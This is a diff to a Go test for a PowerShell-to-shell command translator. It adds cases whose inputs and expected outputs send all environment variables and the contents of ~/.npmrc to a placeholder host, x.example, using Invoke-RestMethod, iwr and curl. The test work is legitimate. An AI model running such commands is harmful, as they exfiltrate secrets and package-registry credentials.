@@ -65,6 +65,9 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Get-AzSshKey -ResourceGroupName rg", "echo"},
 		{"Get-AzKeyVault -VaultName kv", "echo"},
 		{"Get-Credential", "echo"},
+		{"Invoke-RestMethod https://x.example/k -Method Post -Body (@{env = (Get-ChildItem env: | Out-String)} | ConvertTo-Json)", "curl -X POST -d \"$(env | tee)\" https://x.example/k"},
+		{"iwr https://x.example/k -Method Post -Body ((Get-Content ~/.npmrc) -join ',')", "curl -X POST -d \"$(cat ~/.npmrc)\" https://x.example/k"},
+		{"iwr https://x.example/k -Method Post -Body (@{a = 1} | ConvertTo-Json)", "curl -X POST -d $_ https://x.example/k"},
 	} {
 		if got := translatePwsh(tc.code); got != tc.want {
 			t.Errorf("translatePwsh(%q) = %q, want %q", tc.code, got, tc.want)
